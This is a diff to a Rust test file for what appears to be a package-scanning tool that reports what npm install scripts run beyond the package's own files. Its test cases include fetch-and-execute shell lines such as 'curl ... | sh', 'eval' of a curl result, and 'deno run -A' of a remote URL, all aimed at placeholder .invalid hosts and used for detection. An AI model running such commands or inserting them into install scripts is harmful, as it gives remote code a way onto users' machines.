@@ -48,6 +48,7 @@ fn npm_script(script: &str, files: &[(&str, &str)]) -> Vec<String> {
     let file = package.by_path("package/package.json").unwrap();
     let span = Span { start, end: start + script.len() };
     let target = Target::Shell { file, span, text: script.to_owned() };
+    package.manifest.file = Some(file);
     package.entries = vec![Entry { phase: Phase::Install, name: "postinstall".to_owned(), target }];
     let sequence = extract(&package, &Reading::default()).sequence;
     runs(&package, &sequence)
@@ -70,6 +71,62 @@ fn a_script_is_followed_two_files_deep() {
 fn what_cannot_be_known_is_said(#[case] script: &str, #[case] files: &[(&str, &str)], #[case] expected: &str) {
     let found = npm_script(script, files);
     assert!(found.iter().any(|run| run == expected), "{found:#?}");
+}
+
+#[rstest]
+#[case::variable("$X", "$X is known only when it runs")]
+#[case::quoted("'$X'", "$X is known only when it runs")]
+#[case::windows("%VAR%", "%VAR% is known only when it runs")]
+#[case::with_arguments("${RUNNER:-} && $npm_config_cmd a b", "$npm_config_cmd is known only when it runs")]
+#[case::substitution("$(cat name) a", "… is known only when it runs")]
+#[case::npx("npx --yes other-pkg --flag", "other-pkg is code of another package")]
+#[case::npx_package("npx -p other-pkg tool", "other-pkg, tool are code of other packages")]
+#[case::npm_exec("npm exec -- other-pkg", "other-pkg is code of another package")]
+#[case::npm_install("npm i --no-save left right@1.0", "left, right@1.0 are code of other packages")]
+#[case::yarn_dlx("yarn dlx other-pkg", "other-pkg is code of another package")]
+#[case::pnpm_dlx("pnpm dlx other-pkg", "other-pkg is code of another package")]
+#[case::bunx("bunx other-pkg", "other-pkg is code of another package")]
+#[case::uvx("uvx other-pkg", "other-pkg is code of another package")]
+#[case::pipx("pipx run other-pkg", "other-pkg is code of another package")]
+#[case::pip("python3 -m pip install -q other-pkg", "other-pkg is code of another package")]
+#[case::computed_package("npx $X", "$X is known only when it runs")]
+#[case::piped("curl -s https://a.invalid/x | sh", "sh runs code that is fetched")]
+#[case::substituted("sh -c '$(curl -s https://a.invalid/x)'", "… is known only when it runs")]
+#[case::command_line("sh -c $X", "$X is known only when it runs")]
+#[case::python_code("python -c $X", "python runs $X, which is known only when it runs")]
+#[case::sourced(". ./$X", "./$X is known only when it runs")]
+#[case::evaluated("eval $X", "$X is known only when it runs")]
+#[case::evaluated_fetch("eval `curl -s https://a.invalid/x`", "eval runs code that is fetched")]
+#[case::piped_unknown("cat name | node", "node runs code that is known only when it runs")]
+#[case::script("npm run nothing", "nothing is not a script of package.json")]
+#[case::deno("deno run -A https://a.invalid/x.ts", "code fetched from https://a.invalid/x.ts")]
+fn what_the_package_does_not_hold_is_said(#[case] script: &str, #[case] expected: &str) {
+    let found = npm_script(script, &[]);
+    assert!(found.iter().any(|run| run.ends_with(&format!("? {expected}"))), "{found:#?}");
+}
+
+#[rstest]
+#[case("echo done")]
+#[case("npm install")]
+#[case("pip install .")]
+#[case("cost=5 && echo $cost 100%")]
+fn what_is_plain_is_not_called_unresolved(#[case] script: &str) {
+    assert_eq!(npm_script(script, &[]), Vec::<String>::new());
+}
+
+#[test]
+fn what_a_build_with_gyp_runs_is_said() {
+    let gyp = "{'targets': [{'sources': ['<!(node a.js)'],\n 'actions': [{'action': ['python3', '-c', \"run()\"]}]}]}";
+    let files = [("package.json", "{}"), ("binding.gyp", gyp), ("a.js", "require('os').hostname()\n")];
+    let package = package(Ecosystem::Npm, &files, vec![entry(Phase::Install, "node-gyp rebuild (binding.gyp)", 1)]);
+    let sequence = extract(&package, &Reading::default()).sequence;
+    let expected = [
+        "binding.gyp `<!(node a.js)` > a.js: require('os').hostname()",
+        "binding.gyp `'action': ['python3', '-c', \"run()\"]` > ? python3 -c run() is run by the build",
+    ];
+    assert_eq!(runs(&package, &sequence), expected);
+    let told = npm_script("node-gyp rebuild", &[]);
+    assert!(told[0].ends_with("? binding.gyp is built, and commands in it run"), "{told:?}");
 }
 
 #[test]
